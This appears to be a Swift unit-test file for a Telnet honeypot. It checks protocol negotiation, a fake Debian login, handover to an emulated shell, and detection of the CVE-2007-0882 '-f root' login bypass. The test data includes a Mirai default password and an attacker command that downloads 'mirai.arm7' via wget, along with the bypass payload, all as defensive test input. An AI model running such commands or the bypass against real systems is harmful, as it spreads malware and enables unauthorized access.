import XCTest
import MitsuCore
@testable import MitsuTelnet

final class TelnetSessionTests: XCTestCase {
    func session() -> TelnetSession {
        TelnetSession(session: .random(), endpoints: Endpoints(srcIP: "203.0.113.5", srcPort: 4000, destIP: "192.0.2.1", destPort: 23),
                      hostname: "web01", policy: LoginPolicy(rules: [LoginPolicy.rule("root:xc3511")!], acceptAfter: 0))
    }

    func sent(_ o: [TelnetOutput]) -> [UInt8] {
        o.reduce(into: []) { acc, x in
            switch x {
            case .send(let b), .sendAfter(let b, _): acc += b
            default: break
            }
        }
    }

    func events(_ o: [TelnetOutput]) -> [Event] {
        o.compactMap { if case .event(let e) = $0 { return e } else { return nil } }
    }

    func testNegotiatesAndPromptsLikeDebian() {
        let out = session().start()
        XCTAssertEqual(sent(out), [255, 253, 24, 255, 253, 31, 255, 253, 39, 255, 251, 3, 255, 251, 1]
                       + Array("Debian GNU/Linux 12\r\nweb01 login: ".utf8))
    }

    func testFailedThenSuccessfulLogin() {
        let s = session()
        _ = s.start()
        var out = s.receive(Array("root\r\n".utf8))
        XCTAssertEqual(sent(out), Array("root\r\nPassword: ".utf8), "the user name is echoed, the password is not")
        out = s.receive(Array("admin\r\0".utf8))
        XCTAssertEqual(events(out).map(\.kind), [.loginFailed])
        XCTAssertEqual(events(out).first?.password, "admin")
        XCTAssertTrue(out.contains { if case .sendAfter(let b, let ms) = $0 { return b == Array("\r\nLogin incorrect\r\nweb01 login: ".utf8) && ms >= 2000 } else { return false } })
        _ = s.receive(Array("root\r\n".utf8))
        out = s.receive(Array("xc3511\r\n".utf8))
        XCTAssertEqual(events(out).first?.kind, .loginSuccess)
        let start = out.compactMap { if case .startShell(let r) = $0 { return r } else { return nil } }
        XCTAssertEqual(start.count, 1, "the login hands over to the shell")
        XCTAssertEqual(start.first?.username, "root")
        XCTAssertEqual(start.first?.honeypot, "telnet")
        XCTAssertNil(start.first?.command)
        XCTAssertEqual(start.first?.terminal?.term, "vt100")
        XCTAssertEqual(start.first?.endpoints.srcIP, "203.0.113.5")
        // Telnet's CR LF and CR NUL reach the shell as one CR.
        out = s.receive(Array("cd /tmp; wget http://198.51.100.1/mirai.arm7\r\n".utf8) + [0x65, 0x0D, 0x00])
        XCTAssertEqual(out, [.shellInput(.bytes(Array("cd /tmp; wget http://198.51.100.1/mirai.arm7\r".utf8) + [0x65, 0x0D]))])
        // The shell's "\n" reaches the terminal as "\r\n" (a pty's ONLCR); its exit ends the connection.
        XCTAssertEqual(s.shellDelivered(.stdout(Array("a\nb\r\n".utf8))), [.send(Array("a\r\nb\r\n".utf8))])
        XCTAssertEqual(s.shellDelivered(.exit(0)), [.close])
        XCTAssertEqual(s.shellDelivered(.stdout([0x41])), [], "nothing after the end")
    }

    func testWindowSizeReachesTheRunningShell() {
        let s = session()
        _ = s.start()
        _ = s.receive(Array("root\r\n".utf8))
        _ = s.receive(Array("xc3511\r\n".utf8))
        XCTAssertEqual(s.receive([255, 250, 31, 0, 100, 0, 40, 255, 240]), [.shellInput(.resize(columns: 100, rows: 40))])
    }

    func testOptionsAndSubnegotiations() {
        let s = session()
        _ = s.start()
        // WILL TTYPE → we ask for it; the answer and NAWS are recorded; unknown options refused.
        var out = s.receive([255, 251, 24])
        XCTAssertEqual(sent(out), [255, 250, 24, 1, 255, 240])
        out = s.receive([255, 250, 24, 0] + Array("XTERM-256COLOR".utf8) + [255, 240, 255, 250, 31, 0, 132, 0, 50, 255, 240, 255, 251, 35, 255, 253, 5])
        XCTAssertEqual(sent(out), [255, 254, 35, 255, 252, 5])
        XCTAssertEqual(s.terminal, TerminalInfo(term: "XTERM-256COLOR", columns: 132, rows: 50))
        XCTAssertEqual(sent(s.receive([255, 255])), [255], "IAC IAC is a data byte, echoed at the login prompt")
    }

    func testNewEnvironLoginBypassIsFlagged() {
        let s = session()
        _ = s.start()
        let out = s.receive([255, 250, 39, 0, 0] + Array("USER".utf8) + [1] + Array("-f root".utf8) + [255, 240])
        let e = events(out)
        XCTAssertEqual(e.first?.kind, .loginFailed)
        XCTAssertEqual(e.first?.username, "-f root")
        XCTAssertEqual(e.first?.attack?.cves, ["CVE-2007-0882"])
    }

    func testFiveFailuresCloseTheConnection() {
        let s = session()
        _ = s.start()
        var closed = false
        for i in 0..<5 {
            _ = s.receive(Array("admin\r\n".utf8))
            let out = s.receive(Array("pw\(i)\r\n".utf8))
            closed = out.contains { $0 == .close }
        }
        XCTAssertTrue(closed)
    }

    func testHostileBytesNeverTrap() {
        var rng = SystemRandomNumberGenerator()
        for _ in 0..<500 {
            let s = session()
            _ = s.start()
            _ = s.receive((0..<Int.random(in: 0...2000, using: &rng)).map { _ in UInt8.random(in: 0...255, using: &rng) })
        }
        var p = TelnetParser()
        // An endless subnegotiation stays bounded.
        let items = p.feed([255, 250, 24] + [UInt8](repeating: 65, count: 100_000))
        XCTAssertTrue(items.isEmpty)
    }
}
